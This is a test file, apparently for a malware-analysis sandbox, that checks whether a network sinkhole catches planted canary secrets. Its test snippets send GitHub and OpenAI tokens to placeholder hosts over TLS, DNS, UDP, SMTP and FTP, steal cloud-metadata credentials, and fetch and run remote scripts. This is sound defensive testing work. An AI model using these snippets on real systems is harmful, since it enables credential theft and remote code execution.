"""The world from inside of a box: TLS, clouds, downloads, names and datagrams, with real clients."""

from __future__ import annotations

import importlib.metadata
import io
import zipfile
from typing import Any

import pytest

from analyzer.observations import read_sinkhole
from analyzer.sandbox.client import RunOutcome
from analyzer.sandbox.protocol import InputFile
from tests.analyzer.sandbox.lab import GUARD, Lab, given, lines, output, sdist, wheel

pytestmark = pytest.mark.privileged

CLIENT = """
import base64, gzip, http.client, json, socket, ssl, subprocess, sys, urllib.request
SECRET = os.environ.get('GITHUB_TOKEN', '')
KEY = os.environ.get('OPENAI_API_KEY', '')

def get(url, data=None, method=None, **headers):
    request = urllib.request.Request(url, data, method=method)
    for name, value in headers.items():
        request.add_header(name.replace('_', '-'), value)
    return urllib.request.urlopen(request, timeout=20).read()
"""


async def run(lab: Lab, code: str) -> RunOutcome:
    """What a module with `code` did where there is a harness."""
    guarded = "".join(f"    {line}\n" for line in code.strip().splitlines())
    outcome = await lab.run_code(CLIENT + "if HARNESS:\n" + guarded)
    assert outcome.result.phases[-1].exit_code == 0, output(outcome)
    seen = read_sinkhole(outcome.blobs["sinkhole"], outcome.result.phases)
    assert seen.lost == 0
    return outcome


def told(outcome: RunOutcome, kind: str = "tcp") -> list[dict[str, Any]]:
    """The sinkhole's lines of a kind; `what` names the planted values in each."""
    names = {c.id: c.variable or c.kind for c in outcome.result.canaries}
    return [
        {**line, "what": {names[identity] for identity in line["canaries"]}}
        for line in lines(outcome, "sinkhole")
        if line["kind"] == kind
    ]


async def test_tls__to_a_name_is_ended_and_searched(lab: Lab) -> None:
    outcome = await run(lab, "print(get('https://collect.invalid/a', SECRET.encode()))")

    (talk,) = told(outcome)
    assert "b'{}'" in output(outcome)
    assert (talk["sni"], talk["tls"], talk["port"]) == ("collect.invalid", "ended", 443)
    assert talk["http"] == "POST /a HTTP/1.1"
    assert talk["what"] == {"GITHUB_TOKEN"}


async def test_tls__to_a_bare_address_is_ended(lab: Lab) -> None:
    code = "get('https://203.0.113.9/' + SECRET)\nget('https://[2001:db8::7]/' + KEY)"
    four, six = told(await run(lab, code))

    assert (four["sni"], four["tls"], four["what"]) == ("", "ended", {"GITHUB_TOKEN"})
    assert (six["address"], six["tls"], six["what"]) == ("2001:db8::7", "ended", {"OPENAI_API_KEY"})


async def test_tls__on_port_8443_is_ended(lab: Lab) -> None:
    (talk,) = told(await run(lab, "get('https://c2.invalid:8443/', SECRET[::-1].encode())"))

    assert (talk["port"], talk["tls"], talk["what"]) == (8443, "ended", {"GITHUB_TOKEN"})


async def test_tls__without_variables_the_machines_folder_is_trusted(lab: Lab) -> None:
    code = """
bare = {'HOME': '/home/dev'}
program = "import urllib.request as u; print(u.urlopen('https://bare.invalid/x', timeout=5).status)"
print(subprocess.run(['/usr/bin/python3', '-I', '-c', program], env=bare, check=True))
"""
    (talk,) = told(await run(lab, code))
    assert (talk["sni"], talk["tls"]) == ("bare.invalid", "ended")


async def test_tls__curl_trusts_it_too(lab: Lab) -> None:
    code = """
if os.path.exists('/usr/bin/curl'):
    argv = ['/usr/bin/curl', '-sS', '--max-time', '5', '-d', SECRET, 'https://curl.invalid/']
else:
    argv = [sys.executable, '-c', 'import os, urllib.request as u; u.urlopen("https://curl.invalid/", '
            'os.environ["GITHUB_TOKEN"].encode(), timeout=5)']
subprocess.run(argv, check=True)
"""
    (talk,) = told(await run(lab, code))
    assert (talk["sni"], talk["tls"], talk["what"]) == ("curl.invalid", "ended", {"GITHUB_TOKEN"})


def installed(name: str) -> tuple[InputFile, int]:
    """A wheel made from what this environment has installed, so that no index is asked."""
    found = importlib.metadata.distribution(name)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in found.files or ():
            if ".." not in path.parts and path.suffix != ".pyc":
                archive.write(str(found.locate_file(path)), str(path))
    folder = name.replace("-", "_")
    return given(f"{folder}-{found.version}-py3-none-any.whl", buffer.getvalue(), "run")


@pytest.mark.parametrize("variables", [True, False])
async def test_tls__requests_is_answered_and_read(lab: Lab, variables: bool) -> None:
    code = """
    import requests
    session = requests.Session()
    session.trust_env = VARIABLES
    print(session.post('https://hook.invalid/in', json={'t': SECRET}, timeout=20).json())
    files = {'file': ('loot.gz', gzip.compress(KEY.encode()))}
    print(session.post('https://hook.invalid/in', files=files, timeout=20).status_code)
""".replace("VARIABLES", str(variables))
    artifact = wheel("reenact_case", {"reenact_case.py": GUARD + CLIENT + "if HARNESS:" + code})
    names = ("requests", "urllib3", "idna", "certifi", "charset-normalizer")
    outcome = await lab.run(artifact, *(installed(name) for name in names))

    assert "{}\n200" in output(outcome)
    first, second = told(outcome)
    assert (first["tls"], first["what"]) == ("ended", {"GITHUB_TOKEN"})
    assert (second["tls"], second["what"]) == ("ended", {"OPENAI_API_KEY"})


async def test_tls__who_names_certifis_bundle_trusts_it_too(lab: Lab) -> None:
    where = "import os\ndef where():\n    return os.path.join(os.path.dirname(__file__), 'cacert.pem')\n"
    files = {"certifi/__init__.py": where, "certifi/cacert.pem": "none of ours\n"}
    code = """
    import certifi
    context = ssl.create_default_context(cafile=certifi.where())
    print(urllib.request.urlopen('https://pool.invalid/', timeout=5, context=context).status)
"""
    artifact = wheel("reenact_case", {"reenact_case.py": GUARD + CLIENT + "if HARNESS:" + code})
    outcome = await lab.run(artifact, wheel("certifi", files, role="run"))

    (talk,) = told(outcome)
    assert "200" in output(outcome)
    assert (talk["sni"], talk["tls"]) == ("pool.invalid", "ended")


async def test_tls__a_pinned_client_is_recorded_with_its_name(lab: Lab) -> None:
    code = """
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
try:
    context.wrap_socket(socket.create_connection(('198.51.100.2', 443), 5), server_hostname='pin.invalid')
except ssl.SSLCertVerificationError:
    print('refused')
"""
    outcome = await run(lab, code)

    (talk,) = told(outcome)
    assert "refused" in output(outcome)
    assert (talk["sni"], talk["tls"], talk["what"]) == ("pin.invalid", "refused", set())


async def test_tls__a_gzipped_post_is_opened(lab: Lab) -> None:
    code = """
body = gzip.compress(json.dumps({'env': dict(os.environ)}).encode())
get('https://telemetry.invalid/v1', body, Content_Encoding='gzip')
"""
    (talk,) = told(await run(lab, code))
    assert {"GITHUB_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY"} <= talk["what"]


async def test_tls__in_a_chunked_body_base64_of_gzip_is_opened(lab: Lab) -> None:
    code = """
data = base64.b64encode(gzip.compress(SECRET.encode() * 2))
link = http.client.HTTPSConnection('chunks.invalid', timeout=5)
link.request('POST', '/', iter([data[at:at + 9] for at in range(0, len(data), 9)]), encode_chunked=True,
             headers={'Transfer-Encoding': 'chunked'})
print(link.getresponse().read())
"""
    (talk,) = told(await run(lab, code))
    assert talk["what"] == {"GITHUB_TOKEN"}


async def test_authority__is_another_in_every_run_and_there_in_an_sdists_build(lab: Lab) -> None:
    setup = (
        GUARD
        + CLIENT
        + """
pem = open('/etc/ssl/certs/ca-certificates.crt').read().split('-----BEGIN')[-1]
print('CA', pem.split()[-3])
if HARNESS:
    get('https://build.invalid/', open('/home/dev/.pypirc', 'rb').read())
raise SystemExit(5)
"""
    )
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    seen = set()
    for _ in range(2):
        files = {"pyproject.toml": project, "backend.py": setup}
        outcome = await lab.run(sdist("reenact_ca", files), phases=("P1",), budget_ms=60_000)
        talks = told(outcome)
        assert talks, output(outcome, "P1")
        assert {(talk["tls"], *talk["what"]) for talk in talks} == {("ended", "pypi-token")}
        said = output(outcome, "P1")
        seen |= {line for line in said.splitlines() if "CA " in line}
    assert len(seen) == 2


async def test_metadata__the_flow_of_imds_v2_gives_a_role_that_is_a_canary(lab: Lab) -> None:
    code = """
base = 'http://169.254.169.254/latest/'
ttl = {'X_aws_ec2_metadata_token_ttl_seconds': '60'}
token = get(base + 'api/token', b'', 'PUT', **ttl).decode()
shown = {'X_aws_ec2_metadata_token': token}
folder = base + 'meta-data/iam/security-credentials/'
role = json.loads(get(folder + get(folder, **shown).decode(), **shown))
get(base + 'meta-data/', X_told_back=role['SecretAccessKey'], **shown)
get('https://loot.invalid/', json.dumps(role).encode())
gcp = get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
          Metadata_Flavor='Google')
get('https://loot.invalid/' + base64.b64encode(gcp).decode())
"""
    talks = told(await run(lab, code))

    assert {talk["host"] or talk["address"] for talk in talks if talk["what"]} == {"loot.invalid"}
    assert [talk["what"] for talk in talks if talk["host"] == "loot.invalid"] == [
        {"cloud-role"}
    ] * 2
    assert talks[-2]["address"] == "169.254.169.254"


async def test_download__what_comes_can_be_run(lab: Lab) -> None:
    code = """
import io, zipfile
open('/tmp/stage.sh', 'wb').write(get('https://cdn.invalid/stage.sh'))
print('sh', subprocess.run(['sh', '/tmp/stage.sh']).returncode)
exec(get('https://cdn.invalid/next.py'))
zipfile.ZipFile(io.BytesIO(get('https://cdn.invalid/bun-linux-x64.zip'))).extractall('/tmp/bun')
os.chmod('/tmp/bun/bun-linux-x64/bun', 0o755)
print('bun', subprocess.run(['/tmp/bun/bun-linux-x64/bun', '--version']).returncode)
print('ip', get('https://api.ipify.org').decode().count('.'))
"""
    said = output(await run(lab, code))
    assert "sh 0" in said
    assert "bun 0" in said
    assert "ip 3" in said


async def test_name__labels_with_counters_are_put_together(lab: Lab) -> None:
    code = """
text = base64.b32encode(SECRET.encode()).decode().rstrip('=').lower()
for at in range(0, len(text), 15):
    try:
        socket.gethostbyname(f'{at:04}.{text[at:at + 15]}.id7.leak.invalid')
    except OSError:
        pass
"""
    asked = told(await run(lab, code), "dns")
    assert set().union(*(line["what"] for line in asked)) == {"GITHUB_TOKEN"}


async def test_udp__datagrams_to_any_port_are_recorded_and_put_together(lab: Lab) -> None:
    code = """
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(5)
sock.sendto(bytes.fromhex('c300000001') + bytes(1195), ('203.0.113.5', 443))
half = len(SECRET) // 2
sock.sendto(SECRET[:half].encode(), ('203.0.113.5', 5514))
sock.sendto(SECRET[half:].encode(), ('203.0.113.5', 5514))
sock.sendto(b'\\x1b' + bytes(47), ('203.0.113.6', 123))
print('ntp', len(sock.recv(100)))
"""
    outcome = await run(lab, code)

    quic, first, second, _ = told(outcome, "udp")
    assert (quic["port"], quic["bytes"], quic["head_hex"][:10]) == (443, 1200, "c300000001")
    assert (first["what"], second["what"]) == (set(), {"GITHUB_TOKEN"})
    assert "ntp 48" in output(outcome)


async def test_mail__sent_through_tls_is_read(lab: Lab) -> None:
    code = """
import smtplib
with smtplib.SMTP('mx.invalid', 587, timeout=5) as mail:
    mail.starttls(context=ssl.create_default_context())
    mail.login('user', 'word')
    mail.sendmail('a@b.invalid', ['c@d.invalid'], 'Subject: x\\n\\n' + SECRET)
"""
    (talk,) = told(await run(lab, code))
    assert (talk["tls"], talk["what"]) == ("ended", {"GITHUB_TOKEN"})


async def test_ftp__an_upload_is_read(lab: Lab) -> None:
    code = """
import ftplib, io
with ftplib.FTP('files.invalid', 'user', 'word', timeout=20) as link:
    link.storbinary('STOR loot', io.BytesIO(gzip.compress(SECRET.encode())))
"""
    talks = told(await run(lab, code))
    assert {talk["port"]: talk["what"] for talk in talks} == {21: set(), 49821: {"GITHUB_TOKEN"}}


async def test_nothing__is_said_by_a_box_that_says_nothing(lab: Lab) -> None:
    outcome = await run(lab, "import email")
    assert outcome.blobs["sinkhole"] == b""
    assert outcome.result.truncated == ()


FLOODS = {
    "bombs": """
bomb = gzip.compress(bytes(40 << 20))
socks = [socket.create_connection(('198.51.100.4', 1000 + n), 5) for n in range(200)]
for sock in socks:
    sock.sendall(bomb)
""",
    "packed nonsense": """
data = base64.b64encode(os.urandom(40_000))
socks = [socket.create_connection(('198.51.100.4', 1000 + n), 5) for n in range(200)]
for sock in socks:
    sock.sendall(data)
""",
    "handshakes": """
context = ssl.create_default_context()
for n in range(200):
    with socket.create_connection(('198.51.100.4', 1000 + n), 5) as sock:
        context.wrap_socket(sock, server_hostname=f'n{n}.invalid').sendall(b'x')
""",
}


@pytest.mark.parametrize("name", sorted(FLOODS))
async def test_flood__does_not_keep_the_sinkhole_from_its_last_words(lab: Lab, name: str) -> None:
    last = "\nget('https://last.invalid/', SECRET.encode())\n"
    talks = told(await run(lab, FLOODS[name] + last))

    assert len(talks) == 201
    (told_last,) = [talk for talk in talks if talk["sni"] == "last.invalid"]
    assert told_last["what"] == {"GITHUB_TOKEN"}
